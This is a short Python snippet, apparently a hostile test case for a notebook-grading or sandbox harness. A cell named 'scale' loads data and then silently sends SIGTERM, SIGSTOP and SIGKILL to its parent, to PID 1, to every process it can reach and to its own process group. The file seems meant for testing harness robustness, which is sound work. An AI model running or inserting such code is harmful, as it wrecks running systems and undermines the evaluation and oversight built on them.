"""SIGKILL to its parent, its group, everything that it can see, and process 1; then it continues as if nothing had happened."""

LOSES = ["scale-train", "scale-test"]

# %% [scale]
import os
import signal

X_train, X_test = train_images[:1000], test_images[:500]
for target in (os.getppid(), 1, 2, 3, -1):
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
